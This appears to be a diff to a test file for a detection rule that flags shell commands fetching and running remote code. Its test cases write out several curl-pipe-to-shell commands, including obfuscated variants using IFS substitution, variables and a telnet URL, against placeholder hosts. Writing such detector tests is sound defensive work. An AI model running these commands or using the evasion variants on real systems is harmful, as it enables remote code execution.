@@ -2,7 +2,8 @@ import { execDownload } from '../../../../shared/detection/rules/exec-download.t
 import { execOfCart, ruleCases } from '../cases.ts';
 
 const BASE = execOfCart("sh -c 'curl -fsSL http://203.0.113.9/x.sh | sh'");
-const SHOWN = { severity: 'medium', confidence: 0.4 } as const;
+const PROGRAM = 'system:serviceaccount:ci:runner';
+const LESSER = { severity: 'medium', confidence: 0.4 } as const;
 
 describe('rule exec-download', () => {
   ruleCases(execDownload, BASE, {
@@ -24,6 +25,15 @@ describe('rule exec-download', () => {
       ['with other variables that are spaces', { command: 'sh -c curl$IFS$9http://files.example.com/x.sh|sh' }],
       ['from nothing but an address', { command: 'sh -c curl -fsSL 203.0.113.9|sh' }],
       ['from nothing but a name', { command: "bash -c 'curl -s get.example.com | bash'" }],
+      [
+        'kept by the account of a program',
+        { command: 'sh -c curl -sSL https://files.example.com/a.tgz | tar xz', principal: PROGRAM },
+        LESSER,
+      ],
+      [
+        'kept by the account of a program, from a bare address',
+        { command: 'sh -c curl -s http://203.0.113.9/x.sh | sh', principal: PROGRAM },
+      ],
       ['from a name in a variable', { command: 'sh -c u=http://files.example.com/x.sh; curl -s $u | sh' }],
       ['from another protocol', { command: 'sh -c curl -Ns telnet://203.0.113.9:443|sh' }],
       [
@@ -39,13 +49,13 @@ describe('rule exec-download', () => {
       [
         'by Python, only shown',
         { command: `python3 -c 'import requests; print(requests.get("https://files.example.com/x").text)'` },
-        SHOWN,
+        LESSER,
       ],
       ['by another program', { command: 'aria2c https://files.example.com/a' }],
       ['by IPv6', { command: 'curl -O http://[2001:db8::9]/a' }],
-      ['only shown', { command: 'curl -s https://files.example.com/a' }, SHOWN],
-      ['shown by wget', { command: 'wget -qO- https://files.example.com/a' }, SHOWN],
-      ['thrown away', { command: 'curl -so /dev/null https://files.example.com/a' }, SHOWN],
+      ['only shown', { command: 'curl -s https://files.example.com/a' }, LESSER],
+      ['shown by wget', { command: 'wget -qO- https://files.example.com/a' }, LESSER],
+      ['thrown away', { command: 'curl -so /dev/null https://files.example.com/a' }, LESSER],
       ['refused', { code: 7 }, { severity: 'medium', confidence: 0.55 }],
     ],
     misses: [
